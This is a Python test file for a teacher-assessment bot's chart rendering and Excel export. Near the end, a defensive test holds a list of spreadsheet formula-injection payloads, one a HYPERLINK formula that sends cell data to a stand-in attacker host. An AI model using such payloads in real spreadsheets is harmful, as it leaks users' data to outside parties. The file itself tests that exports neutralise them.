"""PNG charts (radar, level distribution) and the XLSX export: pure rendering, no bot."""

from __future__ import annotations

import datetime as dt
import io
import warnings
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal

import matplotlib.image
import numpy as np
import openpyxl
import pytest

from bot.domain.diagnostics import Level
from bot.services.charts import DPI, distribution_png, radar_png
from bot.services.reports import SUMMARY_TITLE, Sheet, results_xlsx, safe_sheet_title, workbook

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
AREAS = [
    "Нормативно-правовая компетентность",
    "Предметные знания",
    "Методическая компетентность",
    "Психолого-педагогическая компетентность",
    "Цифровые технологии в образовании",
    "Работа с детьми с ОВЗ",
    "Воспитательная работа и взаимодействие с родителями",
    "Оценивание образовательных результатов",
]
NOW = list(zip(AREAS, [42.5, 81.0, 66.7, None, 55.0, 30.0, 90.0, 71.0], strict=True))
BEFORE = list(zip(AREAS, [35.0, 70.0, 60.0, 40.0, 58.0, 20.0, 88.0, None], strict=True))
ROWS = [
    (area, high, medium, low)
    for area, (high, medium, low) in zip(
        AREAS,
        [(12, 20, 8), (3, 15, 22), (0, 10, 30), (25, 10, 5), (1, 2, 37), (0, 0, 0), (18, 18, 4), (40, 0, 0)],
        strict=True,
    )
]


def decode(png: bytes) -> np.ndarray:
    assert png.startswith(PNG_SIGNATURE)
    return matplotlib.image.imread(io.BytesIO(png), format="png")


def render(draw: Callable[[], bytes]) -> bytes:
    """Render, failing on any warning about a glyph missing from the font."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        png = draw()
    missing = [str(w.message) for w in caught if "missing" in str(w.message).lower()]
    assert not missing, missing
    return png


def assert_image(png: bytes, *, width_in: float, min_height_in: float, max_height_in: float) -> None:
    image = decode(png)
    height, width = image.shape[:2]
    assert width == round(width_in * DPI)
    assert min_height_in * DPI <= height <= max_height_in * DPI
    assert len(png) < 300_000
    assert image.std() > 0.05  # not blank


# --- radar -------------------------------------------------------------------------------------


def test_radar_is_a_phone_sized_png_with_cyrillic_labels() -> None:
    png = render(lambda: radar_png(NOW, title="Профессиональные дефициты: Иванова Мария Петровна"))
    assert_image(png, width_in=8, min_height_in=8, max_height_in=8)
    assert 120 <= DPI <= 150


def test_radar_with_the_previous_attempt_and_custom_legend() -> None:
    png = render(
        lambda: radar_png(
            NOW,
            title="Сравнение попыток",
            previous=BEFORE,
            labels=("Май 2026", "Январь 2026"),
            thresholds=(40, 80),
        )
    )
    assert_image(png, width_in=8, min_height_in=8, max_height_in=8)
    assert png != render(lambda: radar_png(NOW, title="Сравнение попыток", thresholds=(40, 80)))


def test_radar_previous_matched_by_title_tolerates_missing_and_extra_areas() -> None:
    previous = [*BEFORE[2:], ("Область, которой больше нет", 10.0)]
    png = render(lambda: radar_png(NOW, title="Новая версия анкеты", previous=previous))
    decode(png)


def test_radar_none_and_out_of_range_scores_do_not_crash() -> None:
    areas = [("Первая область", None), ("Вторая", float("nan")), ("Третья", 120.0), ("Четвёртая", -5.0)]
    png = render(lambda: radar_png(areas, title="Нет ответов", previous=[(a, None) for a, _ in areas]))
    assert_image(png, width_in=8, min_height_in=8, max_height_in=8)
    assert_image(
        render(lambda: radar_png([(a, None) for a in AREAS], title="Пусто")),
        width_in=8,
        min_height_in=8,
        max_height_in=8,
    )


@pytest.mark.parametrize("count", [0, 1, 2])
@pytest.mark.parametrize("with_previous", [False, True])
def test_radar_falls_back_to_bars_under_three_areas(count: int, with_previous: bool) -> None:
    previous = BEFORE[:count] if with_previous else None
    png = render(lambda: radar_png(NOW[:count], title="Мало областей", previous=previous))
    assert_image(png, width_in=8, min_height_in=2, max_height_in=6)


def test_radar_long_titles_and_many_areas() -> None:
    long = "Проектирование и реализация индивидуальных образовательных маршрутов обучающихся"
    areas = [(f"{long} {i}", 8.0 * i) for i in range(12)]
    png = render(lambda: radar_png(areas, title=long + " — очень длинный заголовок", previous=areas[::-1]))
    assert_image(png, width_in=8, min_height_in=8, max_height_in=8)


def test_radar_renders_identically_from_threads() -> None:
    """No pyplot, no shared figure: parallel renders equal the serial one."""
    serial = radar_png(NOW, title="Потоки", previous=BEFORE)
    with ThreadPoolExecutor(4) as pool:
        results = list(pool.map(lambda _: radar_png(NOW, title="Потоки", previous=BEFORE), range(8)))
    assert all(r == serial for r in results)


def test_charts_ignore_global_font_settings() -> None:
    with matplotlib.rc_context({"font.family": "monospace", "font.monospace": ["Nonexistent Mono"]}):
        png = render(lambda: radar_png(NOW, title="Свои настройки шрифта"))
    decode(png)


# --- distribution --------------------------------------------------------------------------------


def test_distribution_is_a_readable_png() -> None:
    png = render(lambda: distribution_png(ROWS, title="Распределение по уровням дефицита — МБОУ СОШ № 5"))
    # Height grows with the number of areas: about an inch per area.
    assert_image(png, width_in=8, min_height_in=8, max_height_in=14)


def test_distribution_custom_legend_and_many_rows_stay_small() -> None:
    rows = [
        (f"Область номер {i} с довольно длинным названием для переноса", i, 2 * i, 60 - 3 * i)
        for i in range(20)
    ]
    png = render(lambda: distribution_png(rows, title="Много", legend=("Высокий", "Средний", "Низкий")))
    image = decode(png)
    assert image.shape[1] == 8 * DPI
    assert len(png) < 300_000


@pytest.mark.parametrize("rows", [[], [("Методическая компетентность", 0, 0, 0)], [("Пусто", 0, 0, 0)] * 3])
def test_distribution_without_data_says_so(rows: list[tuple[str, int, int, int]]) -> None:
    png = render(lambda: distribution_png(rows, title="Распределение по уровням дефицита"))
    assert_image(png, width_in=8, min_height_in=3, max_height_in=5)
    assert png != render(lambda: distribution_png(rows, title="Другой заголовок"))  # the title is drawn


def test_sample_images_for_a_human_look() -> None:
    """Written for eyeballing the layout; the assertions are in the other tests."""
    with open("/tmp/radar_sample.png", "wb") as file:
        file.write(render(lambda: radar_png(NOW, title="Профессиональные дефициты", previous=BEFORE)))
    with open("/tmp/dist_sample.png", "wb") as file:
        file.write(render(lambda: distribution_png(ROWS, title="Распределение по уровням дефицита")))


# --- xlsx ----------------------------------------------------------------------------------------

HEADER = ["ФИО", "Школа", "Область", "Балл, %", "Уровень", "Ответов", "Дата"]


def result_rows(count: int) -> list[list[object]]:
    return [
        [
            f"Иванова Мария Петровна {i}",
            "МБОУ «СОШ № 5» г. Энска",
            AREAS[i % len(AREAS)],
            round((i * 7.3) % 100, 1),
            Level.MEDIUM,
            i % 12,
            dt.datetime(2026, 5, 1, 10, 30) + dt.timedelta(minutes=i),
        ]
        for i in range(count)
    ]


def load(data: bytes) -> openpyxl.Workbook:
    assert zipfile.is_zipfile(io.BytesIO(data))
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_sheet_header_rows_and_types() -> None:
    rows = result_rows(25)
    wb = load(results_xlsx(HEADER, rows, sheet_title="Результаты"))
    assert wb.sheetnames == ["Результаты"]
    ws = wb.active
    assert [c.value for c in ws[1]] == HEADER
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:G26"
    assert ws.max_row == 26
    first = [c.value for c in ws[2]]
    assert first[:3] == rows[0][:3]
    assert isinstance(ws["D3"].value, float) and ws["D3"].value == rows[1][3]
    assert isinstance(ws["F3"].value, int) and ws["F3"].value == 1
    assert ws["E2"].value == "medium"
    assert ws["G2"].value == dt.datetime(2026, 5, 1, 10, 30) and ws["G2"].is_date


def test_xlsx_column_widths_follow_content_and_are_capped() -> None:
    rows = [["коротко", "x" * 200, 1]]
    ws = load(results_xlsx(["А", "Очень длинный заголовок", "Ч"], rows, sheet_title="Ширина")).active
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert 8 <= widths["A"] <= 12
    assert widths["B"] == 60
    assert widths["C"] < widths["A"]


def test_xlsx_summary_sheet() -> None:
    summary = [
        ("Всего педагогов", 120),
        ("Доля с высоким дефицитом, %", 12.5),
        ("Сформировано", dt.date(2026, 5, 1)),
    ]
    wb = load(results_xlsx(HEADER, result_rows(3), sheet_title="Итоги", summary=summary))
    assert wb.sheetnames == ["Итоги", SUMMARY_TITLE]
    ws = wb[SUMMARY_TITLE]
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[:2] == [["Всего педагогов", 120], ["Доля с высоким дефицитом, %", 12.5]]
    assert values[2][1].date() == dt.date(2026, 5, 1)
    assert ws["A1"].font.b


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Результаты: 2026/05 [все]*?", "Результаты_ 2026_05 _все___"),
        ("Очень длинное название листа, больше тридцати одного символа", "Очень длинное название листа, б"),
        ("'в кавычках'", "в кавычках"),
        ("", "Данные"),
        ("???", "___"),
        ("History", "Данные"),
    ],
)
def test_sheet_titles_are_sanitised(title: str, expected: str) -> None:
    clean = safe_sheet_title(title)
    assert clean == expected.strip()
    assert len(clean) <= 31 and not set(clean) & set("[]:*?/\\")
    wb = load(results_xlsx(["a"], [[1]], sheet_title=title))
    assert wb.sheetnames == [clean]


def test_xlsx_sheet_named_like_the_summary_does_not_clash() -> None:
    wb = load(results_xlsx(["a"], [[1]], sheet_title="сводка", summary=[("k", "v")]))
    assert wb.sheetnames == ["Данные", SUMMARY_TITLE]


def test_xlsx_odd_values() -> None:
    aware = dt.datetime(2026, 5, 1, 12, 0, tzinfo=dt.UTC)
    row: list[object] = [
        '=HYPERLINK("http://example.com","x")',
        "звонок\x07",
        float("nan"),
        None,
        Decimal("2.5"),
        np.int64(7),
        aware,
        True,
        {"не": "число"},
    ]
    ws = load(results_xlsx([f"c{i}" for i in range(len(row))], [row], sheet_title="Странное")).active
    values = [c.value for c in ws[2]]
    assert values[0] == '=HYPERLINK("http://example.com","x")'
    assert ws["A2"].data_type == "s"  # text, never a formula
    assert values[1] == "звонок"
    assert values[2] is None and values[3] is None
    assert values[4] == 2.5 and values[5] == 7
    assert values[6] == dt.datetime(2026, 5, 1, 12, 0)
    assert values[7] is True
    assert values[8] == "{'не': 'число'}"


def test_xlsx_empty_rows_keep_the_header() -> None:
    ws = load(results_xlsx(HEADER, [], sheet_title="Пусто")).active
    assert ws.max_row == 1 and [c.value for c in ws[1]] == HEADER


def test_xlsx_twenty_thousand_rows_all_written() -> None:
    # How long it takes is measured by `python -m benchmarks diagnosis` (results_xlsx), not asserted.
    rows = result_rows(20_000)
    data = results_xlsx(HEADER, rows, sheet_title="Все результаты", summary=[("Строк", len(rows))])
    wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    read = list(wb["Все результаты"].iter_rows(values_only=True))
    assert len(read) == 20_001
    assert read[-1][0] == "Иванова Мария Петровна 19999" and read[-1][5] == 19_999 % 12
    wb.close()


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Открыть")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "отзыв\x01 с управляющим символом",
]


def test_formula_like_text_stays_text_and_control_characters_go_in_every_sheet() -> None:
    """One `\x01` in a feedback broke an event's export for good; `=HYPERLINK(…)` became live."""
    data = workbook(
        [
            Sheet("Люди", ["Имя", "Отзыв"], [[text, text] for text in HOSTILE]),
            Sheet("Люди", [], [[text] for text in HOSTILE], table=False, bold_first=True),
        ]
    )
    wb = load(data)
    assert wb.sheetnames == ["Люди", "Люди (2)"]
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=1 if ws.title == "Люди (2)" else 2):
            for cell in row:
                assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell.value)
                if cell.value[:1] in "=+-@\t\r":
                    assert cell.quotePrefix, cell.value
    first = wb["Люди"]
    assert first["A2"].value == HOSTILE[0]
    assert first["B8"].value == "отзыв с управляющим символом"
